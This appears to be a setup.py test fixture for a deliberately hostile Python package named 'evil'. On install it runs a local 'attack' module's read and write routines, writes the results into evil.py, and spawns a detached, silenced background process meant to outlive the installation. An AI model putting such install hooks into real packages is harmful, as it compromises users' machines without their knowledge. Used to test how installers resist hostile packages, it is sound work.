"""The set-up code of a package that tries to be more than data."""

import os
import subprocess
import sys

from setuptools import setup

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import attack

found = attack.read() + attack.write("setup.py")
# What goes on after the installation, and does not want to end.
subprocess.Popen(
    [sys.executable, "-S", attack.__file__, "wait"],
    start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
with open("evil.py", "w") as module:
    module.write("FOUND = " + repr(found) + "\n")
setup(name="evil", version="1.0", py_modules=["evil"])
